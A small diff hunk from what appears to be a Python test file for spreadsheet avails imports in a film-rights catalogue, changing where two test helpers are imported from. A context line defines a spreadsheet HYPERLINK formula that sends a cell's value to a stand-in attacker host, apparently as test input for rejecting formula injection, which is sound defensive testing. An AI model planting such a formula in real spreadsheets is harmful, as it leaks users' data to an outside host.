@@ -14,7 +14,7 @@ from kinomost.catalog.services import WorkInput, save_work
 from kinomost.core.errors import ImportRejected
 from kinomost.rights.avails.from_ledger import export_avails
 from kinomost.rights.avails.xlsx import read_xlsx
-from tests.rights.conftest import give, hold
+from tests.factories import give, hold
 from tests.rights.test_avails_ledger import movie, xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B5,"Click")'
